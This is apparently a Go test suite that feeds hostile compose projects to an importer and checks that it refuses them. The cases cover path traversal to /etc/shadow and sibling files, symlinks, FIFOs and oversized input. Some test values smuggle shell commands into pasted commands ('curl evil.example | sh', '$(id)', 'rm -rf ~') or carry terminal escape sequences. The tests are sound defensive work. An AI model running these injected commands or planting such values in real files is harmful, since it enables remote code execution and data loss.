package composeimport

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/hashicorp/hcl/v2"

	"github.com/stackctl/stackctl/internal/render"
)

// The compose project is untrusted: it may come from a pull request that
// someone else imports on their machine. These tests feed it hostile
// projects: files outside the project, FIFOs, values a message could
// quote, names that would add a line to the commands the user pastes.

// hostile is one project: files written into <tmp>/proj (the project
// directory), with <tmp>/outside.* beside it holding canaries.
type hostile struct {
	files map[string]string
	setup func(t *testing.T, proj string) // symlinks, FIFOs
	opts  func(o *Options, proj string)   // default: Files = [proj/compose.yaml]
}

// outcome is everything an import shows or writes, as one text for leak
// checks, and the diagnostics for location checks.
type outcome struct {
	proj  string
	res   *Result
	diags hcl.Diagnostics
	all   string // rendered diagnostics, written files, secrets commands
	msgs  string // the diagnostics' summaries and details alone
}

// hangLimit bounds an import of a few lines; on a loaded machine it takes
// well under a second.
const hangLimit = 30 * time.Second

func (h hostile) run(t *testing.T) outcome {
	t.Helper()
	dir := t.TempDir()
	proj := filepath.Join(dir, "proj")
	must(t, os.MkdirAll(proj, 0o755))
	must(t, os.WriteFile(filepath.Join(dir, "outside.env"), []byte("STOLEN_VALUE=CANARY-outside-env\nDB_PASSWORD=CANARY-outside-pw\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(dir, "outside.yaml"), []byte("CANARY-outside-yaml: x: y\nservices:\n  base:\n    image: stolen:1\n    environment:\n      STOLEN: CANARY-outside-yaml-env\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(dir, "outside.txt"), []byte("CANARY-outside-txt\n"), 0o644))
	for n, c := range h.files {
		p := filepath.Join(proj, n)
		must(t, os.MkdirAll(filepath.Dir(p), 0o755))
		must(t, os.WriteFile(p, []byte(c), 0o644))
	}
	if h.setup != nil {
		h.setup(t, proj)
	}
	opts := Options{Files: []string{filepath.Join(proj, "compose.yaml")}, OutDir: "out", Environ: []string{}}
	if h.opts != nil {
		h.opts(&opts, proj)
	}

	type done struct {
		res   *Result
		diags hcl.Diagnostics
	}
	ch := make(chan done, 1)
	go func() {
		res, diags := Import(context.Background(), opts)
		ch <- done{res, diags}
	}()
	var d done
	select {
	case d = <-ch:
	case <-time.After(hangLimit):
		// Let the import finish (it would hold the package's lock for the
		// next test): feed EOF to the FIFOs it waits on, for a while.
		stop := time.After(hangLimit)
	unblock:
		for {
			unblockFIFOs(proj)
			select {
			case <-ch:
				break unblock
			case <-stop:
				break unblock
			case <-time.After(50 * time.Millisecond):
			}
		}
		t.Fatalf("the import did not return within %s: it blocks on a file", hangLimit)
	}

	var b bytes.Buffer
	render.SortDiagnostics(d.diags)
	_ = render.DiagnosticsText(&b, d.diags, d.res.Sources, 0, false)
	for _, n := range sortedKeys(d.res.Files) {
		b.WriteString("--- " + n + "\n")
		b.Write(d.res.Files[n])
	}
	for _, p := range d.res.Secrets {
		b.WriteString(p.Command("out") + "\n")
	}
	var m strings.Builder
	for _, d := range d.diags {
		m.WriteString(d.Summary + "\n" + d.Detail + "\n")
	}
	return outcome{proj: proj, res: d.res, diags: d.diags, all: b.String(), msgs: m.String()}
}

// unblockFIFOs opens and closes the write end of every FIFO in the
// project, so that a reader blocked on one (a regression) reads EOF.
func unblockFIFOs(dir string) {
	_ = filepath.WalkDir(dir, func(p string, e os.DirEntry, err error) error {
		if err == nil && e.Type()&os.ModeNamedPipe != 0 {
			if f, err := os.OpenFile(p, os.O_WRONLY|syscall.O_NONBLOCK, 0); err == nil {
				f.Close()
			}
		}
		return nil
	})
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// wantError checks that an error with summary is reported at file:line
// (file relative to the project directory) and that its detail holds
// every one of texts.
func (o outcome) wantError(t *testing.T, summary, file string, line int, texts ...string) {
	t.Helper()
	if o.res != nil && len(o.res.Files) > 0 {
		t.Errorf("files were produced despite the error: %v", o.res.FileNames())
	}
	for _, d := range o.diags {
		if d.Severity != hcl.DiagError || d.Summary != summary {
			continue
		}
		if d.Subject == nil {
			t.Fatalf("%q has no location:\n%s", summary, o.all)
		}
		want := filepath.Join(o.proj, file)
		if d.Subject.Filename != want || d.Subject.Start.Line != line {
			t.Errorf("%q at %s:%d, want %s:%d", summary, d.Subject.Filename, d.Subject.Start.Line, want, line)
		}
		for _, s := range texts {
			if !strings.Contains(d.Detail, s) {
				t.Errorf("%q does not say %q:\n%s", summary, s, d.Detail)
			}
		}
		return
	}
	t.Fatalf("no error %q; the import said:\n%s", summary, o.all)
}

// noCanary checks that no canary value reached the output.
func (o outcome) noCanary(t *testing.T) {
	t.Helper()
	if i := strings.Index(o.all, "CANARY"); i >= 0 {
		t.Errorf("a file's content reached the output: ...%s...\n%s", o.all[max(i-80, 0):min(i+40, len(o.all))], o.all)
	}
}

// noCanaryInMessages checks the messages alone: a line of the compose
// file itself may be shown under them (masked when it looks secret).
func (o outcome) noCanaryInMessages(t *testing.T) {
	t.Helper()
	if strings.Contains(o.msgs, "CANARY") {
		t.Errorf("a value reached a message:\n%s", o.msgs)
	}
}

func symlink(target, name string) func(t *testing.T, proj string) {
	return func(t *testing.T, proj string) {
		must(t, os.Symlink(target, filepath.Join(proj, name)))
	}
}

const svc = "services:\n  app:\n    image: app:1\n"

// TestRefusesFilesOutsideTheProject: every file the project makes the
// import read, or tells the user to feed to stackctl, must resolve inside
// the project directory.
func TestRefusesFilesOutsideTheProject(t *testing.T) {
	const outside = "lies outside the project directory"
	for _, c := range []struct {
		name    string
		h       hostile
		file    string
		line    int
		summary string
		texts   []string
	}{
		{"env_file absolute", hostile{files: map[string]string{"compose.yaml": svc + "    env_file: /etc/shadow\n"}},
			"compose.yaml", 4, "File outside the project", []string{`The env_file "/etc/shadow" of service "app"`, outside}},
		{"env_file relative", hostile{files: map[string]string{"compose.yaml": svc + "    env_file:\n      - ../outside.env\n"}},
			"compose.yaml", 5, "File outside the project", []string{`The env_file`, `outside.env" of service "app"`, outside}},
		{"env_file long syntax", hostile{files: map[string]string{"compose.yaml": svc + "    env_file:\n      - path: ../outside.env\n        required: false\n"}},
			"compose.yaml", 5, "File outside the project", []string{`outside.env" of service "app"`, outside}},
		{"env_file symlink", hostile{files: map[string]string{"compose.yaml": svc + "    env_file: app.env\n"}, setup: symlink("../outside.env", "app.env")},
			"compose.yaml", 4, "File outside the project", []string{`The env_file "`, `app.env" of service "app" is a symlink to "`, "outside the project directory"}},
		{"label_file", hostile{files: map[string]string{"compose.yaml": svc + "    label_file: ../outside.env\n"}},
			"compose.yaml", 4, "File outside the project", []string{`The label_file "`, outside}},
		{"include", hostile{files: map[string]string{"compose.yaml": "include:\n  - ../outside.yaml\n" + svc}},
			"compose.yaml", 2, "File outside the project", []string{`The included file "../outside.yaml"`, outside}},
		{"include symlink", hostile{files: map[string]string{"compose.yaml": "include:\n  - path: shared.yaml\n" + svc}, setup: symlink("../outside.yaml", "shared.yaml")},
			"compose.yaml", 2, "File outside the project", []string{`The included file "shared.yaml" is a symlink to "`, "outside the project directory"}},
		{"include env_file", hostile{files: map[string]string{"compose.yaml": "include:\n  - path: inc.yaml\n    env_file: ../outside.env\n" + svc, "inc.yaml": "services:\n  inc:\n    image: inc:1\n"}},
			"compose.yaml", 3, "File outside the project", []string{`The include env_file "../outside.env"`, outside}},
		{"include project_directory", hostile{files: map[string]string{"compose.yaml": "include:\n  - path: inc.yaml\n    project_directory: ..\n" + svc, "inc.yaml": "services:\n  inc:\n    image: inc:1\n"}},
			"compose.yaml", 3, "File outside the project", []string{`The include project_directory ".."`, outside}},
		{"extends file", hostile{files: map[string]string{"compose.yaml": "services:\n  app:\n    extends:\n      file: ../outside.yaml\n      service: base\n"}},
			"compose.yaml", 4, "File outside the project", []string{`The extends file "../outside.yaml"`, outside}},
		{"extends file interpolated", hostile{files: map[string]string{"compose.yaml": "services:\n  app:\n    extends:\n      file: ${BASE}\n      service: base\n"},
			opts: func(o *Options, proj string) {
				o.Environ = []string{"BASE=" + filepath.Join(proj, "..", "outside.yaml")}
			}},
			"compose.yaml", 4, "File outside the project", []string{`The extends file "${BASE}"`, outside}},
		{"secret file", hostile{files: map[string]string{"compose.yaml": svc + "    secrets: [key]\nsecrets:\n  key:\n    file: ../outside.txt\n"}},
			"compose.yaml", 7, "File outside the project", []string{`The file "`, `outside.txt" of secret "key"`, outside}},
		{"config file", hostile{files: map[string]string{"compose.yaml": svc + "configs:\n  cfg:\n    file: /etc/passwd\n"}},
			"compose.yaml", 6, "File outside the project", []string{`The file "/etc/passwd" of config "cfg"`, outside}},
		{".env symlink", hostile{files: map[string]string{"compose.yaml": svc + "    environment:\n      X: ${STOLEN_VALUE}\n"}, setup: symlink("../outside.env", ".env")},
			".env", 1, "File outside the project", []string{`The .env file "`, `is a symlink to "`}},
		{"discovered override symlink", hostile{files: map[string]string{"compose.yaml": svc}, setup: symlink("../outside.yaml", "compose.override.yaml"),
			opts: func(o *Options, proj string) { o.Files, o.Dir = nil, proj }},
			"compose.override.yaml", 1, "File outside the project", []string{`The compose file "`, `is a symlink to "`}},
	} {
		t.Run(c.name, func(t *testing.T) {
			o := c.h.run(t)
			o.wantError(t, c.summary, c.file, c.line, c.texts...)
			o.noCanary(t)
		})
	}
}

// TestOwnFilesStayAllowed: what the user names on the command line and
// paths that leave a subdirectory but stay in the project are fine.
func TestOwnFilesStayAllowed(t *testing.T) {
	for _, c := range []struct {
		name string
		h    hostile
	}{
		{"--env-file outside", hostile{files: map[string]string{"compose.yaml": svc + "    environment:\n      X: ${STOLEN_VALUE}\n"},
			opts: func(o *Options, proj string) { o.EnvFiles = []string{filepath.Join(proj, "..", "outside.env")} }}},
		{"include back up into the project", hostile{files: map[string]string{
			"compose.yaml":     "include:\n  - sub/inc.yaml\n" + svc,
			"sub/inc.yaml":     "services:\n  inc:\n    extends:\n      file: ../common.yaml\n      service: base\n    env_file: ../app.env\n",
			"common.yaml":      "services:\n  base:\n    image: base:1\n",
			"app.env":          "MODE=test\n",
			"sub/.placeholder": "",
		}}},
		{"symlink inside the project", hostile{files: map[string]string{"compose.yaml": svc + "    env_file: link.env\n", "real.env": "MODE=test\n"}, setup: symlink("real.env", "link.env")}},
	} {
		t.Run(c.name, func(t *testing.T) {
			o := c.h.run(t)
			if o.diags.HasErrors() {
				t.Fatalf("refused:\n%s", o.all)
			}
		})
	}
}

// TestMessagesQuoteNoFileContent: errors and warnings point at the line;
// they never quote what a file holds (it may be a secret), whatever the
// compose library's own message would have quoted.
func TestMessagesQuoteNoFileContent(t *testing.T) {
	for _, c := range []struct {
		name    string
		h       hostile
		file    string
		line    int
		summary string
		inline  bool // the canary is a plain value of the compose file itself, shown in its line
	}{
		{"included file outside with a YAML error", hostile{files: map[string]string{"compose.yaml": "include:\n  - ../outside.yaml\n" + svc}},
			"compose.yaml", 2, "File outside the project", false},
		{".env unterminated quote", hostile{files: map[string]string{"compose.yaml": svc, ".env": "MODE=x\nDB_PASSWORD=\"CANARY-dotenv-quote\n"}},
			".env", 2, "Invalid env file", false},
		{".env bad name", hostile{files: map[string]string{"compose.yaml": svc, ".env": "DB*PASSWORD=CANARY-dotenv-name\n"}},
			".env", 1, "Invalid env file", false},
		{"env_file unterminated quote", hostile{files: map[string]string{"compose.yaml": svc + "    env_file: app.env\n", "app.env": "API_TOKEN='CANARY-envfile-quote\n"}},
			"app.env", 1, "Invalid env file", false},
		{"invalid interpolation", hostile{files: map[string]string{"compose.yaml": svc + "    environment:\n      API_TOKEN: \"CANARY-template ${\"\n"}},
			"compose.yaml", 5, "Invalid interpolation", false},
		{"include not a list", hostile{files: map[string]string{"compose.yaml": "include:\n  - inc.yaml\n" + svc, "inc.yaml": "include: CANARY-include-scalar\nservices:\n  inc:\n    image: inc:1\n"}},
			"", 0, "Cannot load the compose project", false},
		{"boolean cast", hostile{files: map[string]string{"compose.yaml": svc + "    read_only: \"${FLAG:-CANARY-bool}\"\n"}},
			"compose.yaml", 4, "Invalid interpolation", true},
		{"boolean cast from .env", hostile{files: map[string]string{"compose.yaml": svc + "    read_only: ${FLAG}\n", ".env": "FLAG=CANARY-bool-env\n"}},
			"compose.yaml", 4, "Invalid interpolation", false},
		{"size", hostile{files: map[string]string{"compose.yaml": svc + "    mem_limit: \"${LIMIT:-CANARY-size}\"\n"}},
			"", 0, "Cannot load the compose project", true},
		{"YAML error on a secret line", hostile{files: map[string]string{"compose.yaml": svc + "    environment:\n      DB_PASSWORD: CANARY-yaml-line: x\n"}},
			"compose.yaml", 5, "Invalid YAML", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			o := c.h.run(t)
			if c.inline {
				o.noCanaryInMessages(t)
			} else {
				o.noCanary(t)
			}
			if c.file == "" {
				if !o.diags.HasErrors() {
					t.Fatalf("no error:\n%s", o.all)
				}
				return
			}
			o.wantError(t, c.summary, c.file, c.line)
		})
	}
}

// TestRefusesNonRegularFiles: a FIFO (or a directory) where the project
// names a file is refused before it is opened; reading a FIFO would block
// the import until something writes to it.
func TestRefusesNonRegularFiles(t *testing.T) {
	const pipe = "is a named pipe (FIFO), not a regular file"
	for _, c := range []struct {
		name    string
		h       hostile
		file    string
		line    int
		summary string
		texts   []string
	}{
		{"extends file", hostile{files: map[string]string{"compose.yaml": "services:\n  app:\n    image: app:1\n    extends:\n      file: base.yaml\n      service: base\n"}, setup: fifo("base.yaml")},
			"compose.yaml", 5, "Not a regular file", []string{`The extends file "base.yaml" ` + pipe}},
		{"include", hostile{files: map[string]string{"compose.yaml": "include:\n  - inc.yaml\n" + svc}, setup: fifo("inc.yaml")},
			"compose.yaml", 2, "Not a regular file", []string{`The included file "inc.yaml" ` + pipe}},
		{"include env_file", hostile{files: map[string]string{"compose.yaml": "include:\n  - path: inc.yaml\n    env_file: inc.env\n" + svc, "inc.yaml": "services:\n  inc:\n    image: inc:1\n"}, setup: fifo("inc.env")},
			"compose.yaml", 3, "Not a regular file", []string{`The include env_file "inc.env" ` + pipe}},
		{"env_file", hostile{files: map[string]string{"compose.yaml": svc + "    env_file: app.env\n"}, setup: fifo("app.env")},
			"compose.yaml", 4, "Not a regular file", []string{`app.env" of service "app" ` + pipe}},
		{"label_file", hostile{files: map[string]string{"compose.yaml": svc + "    label_file: app.labels\n"}, setup: fifo("app.labels")},
			"compose.yaml", 4, "Not a regular file", []string{`app.labels" of service "app" ` + pipe}},
		{"env_file directory", hostile{files: map[string]string{"compose.yaml": svc + "    env_file: conf\n", "conf/x": ""}},
			"compose.yaml", 4, "Not a regular file", []string{`conf" of service "app" is a directory, not a regular file`}},
		{".env", hostile{files: map[string]string{"compose.yaml": svc}, setup: fifo(".env")},
			".env", 1, "Not a regular file", []string{`The .env file "`, pipe}},
		{"secret file", hostile{files: map[string]string{"compose.yaml": svc + "    secrets: [key]\nsecrets:\n  key:\n    file: key.txt\n"}, setup: fifo("key.txt")},
			"compose.yaml", 7, "Not a regular file", []string{`key.txt" of secret "key" ` + pipe}},
		{"compose file named on the command line", hostile{setup: fifo("compose.yaml")},
			"compose.yaml", 1, "Not a regular file", []string{`The compose file "`, pipe}},
		{"discovered override", hostile{files: map[string]string{"compose.yaml": svc}, setup: fifo("compose.override.yaml"),
			opts: func(o *Options, proj string) { o.Files, o.Dir = nil, proj }},
			"compose.override.yaml", 1, "Not a regular file", []string{`The compose file "`, pipe}},
	} {
		t.Run(c.name, func(t *testing.T) {
			o := c.h.run(t)
			o.wantError(t, c.summary, c.file, c.line, c.texts...)
		})
	}
}

// TestPrintedCommandsStayOneLine: nothing from the project adds a line to
// the `stackctl secrets put` commands the user pastes into a shell, or a
// control character to a written file.
func TestPrintedCommandsStayOneLine(t *testing.T) {
	t.Run("secret from a variable that is no name", func(t *testing.T) {
		o := hostile{files: map[string]string{"compose.yaml": svc + "    secrets: [token]\nsecrets:\n  token:\n    environment: \"X\\ncurl evil.example | sh #\"\n"}}.run(t)
		o.wantError(t, "Secret variable name not usable", "compose.yaml", 7, `"X\ncurl evil.example | sh #"`, "Name a valid variable")
	})
	t.Run("secret file with a newline in its name", func(t *testing.T) {
		o := hostile{files: map[string]string{
			"compose.yaml":     svc + "    secrets: [token]\nsecrets:\n  token:\n    file: \"./tok\\nen$(id).txt\"\n",
			"tok\nen$(id).txt": "CANARY-file\n",
		}}.run(t)
		o.wantError(t, "Secret file name not printable", "compose.yaml", 7, `tok\x0aen$(id).txt`, "Rename the file")
		o.noCanary(t)
	})
	t.Run("_FILE variable that is no name", func(t *testing.T) {
		o := hostile{files: map[string]string{
			"compose.yaml": svc + "    environment:\n      \"X\\nrm -rf ~ #_FILE\": /run/secrets/token\n    secrets: [token]\nsecrets:\n  token:\n    file: token.txt\n",
			"token.txt":    "CANARY-token\n",
		}}.run(t)
		if o.diags.HasErrors() {
			t.Fatalf("import failed:\n%s", o.all)
		}
		if len(o.res.Secrets) != 1 || o.res.Secrets[0].Env != "TOKEN" {
			t.Fatalf("secrets: %+v", o.res.Secrets)
		}
		for _, p := range o.res.Secrets {
			if cmd := p.Command("out"); strings.ContainsAny(cmd, "\n\r") {
				t.Errorf("command spans lines: %q", cmd)
			}
		}
		o.noCanary(t)
	})
	t.Run("control characters in a descriptor comment", func(t *testing.T) {
		o := hostile{files: map[string]string{"compose.yaml": "services:\n  app:\n    image: app:1\n    environment:\n      B_URL: \"http://b:80/\\e[2J\\e]0;owned\\a\"\n  b:\n    image: b:1\n"}}.run(t)
		if o.diags.HasErrors() {
			t.Fatalf("import failed:\n%s", o.all)
		}
		for n, b := range o.res.Files {
			if i := bytes.IndexFunc(b, func(r rune) bool { return r < 0x20 && r != '\n' }); i >= 0 {
				t.Errorf("%s holds control character %#x: %q", n, b[i], b[max(i-20, 0):min(i+20, len(b))])
			}
		}
	})
}

// TestBoundedWork: inputs that would make the import do unbounded work
// or print megabytes are refused or cut.
func TestBoundedWork(t *testing.T) {
	t.Run("port range", func(t *testing.T) {
		o := hostile{files: map[string]string{"compose.yaml": svc + "    ports:\n      - \"1-65535:1-65535\"\n"}}.run(t)
		o.wantError(t, "Too many ports", "compose.yaml", 4, `"app" publishes 65535 ports`)
	})
	t.Run("deep nesting", func(t *testing.T) {
		// The compose library's path matching is quadratic in the depth.
		o := hostile{files: map[string]string{"compose.yaml": svc + "    x-deep: " + strings.Repeat("[", 100) + strings.Repeat("]", 100) + "\n"}}.run(t)
		o.wantError(t, "Nesting too deep", "compose.yaml", 4, "more than 64 levels")
	})
	t.Run("huge environment", func(t *testing.T) {
		var b strings.Builder
		b.WriteString(svc + "    environment:\n")
		for i := 0; i <= 5000; i++ {
			fmt.Fprintf(&b, "      V%d_PASSWORD: v%d\n", i, i)
		}
		o := hostile{files: map[string]string{"compose.yaml": b.String()}}.run(t)
		o.wantError(t, "Too many entries", "compose.yaml", 5, "more than 5000 entries")
	})
	t.Run("long line under a diagnostic", func(t *testing.T) {
		o := hostile{files: map[string]string{"compose.yaml": svc + "    x-deep: " + strings.Repeat("[", 20000) + strings.Repeat("]", 20000) + "\n"}}.run(t)
		o.wantError(t, "Invalid YAML", "compose.yaml", 4)
		if len(o.all) > 4000 {
			t.Errorf("the diagnostic is %d bytes long", len(o.all))
		}
	})
}
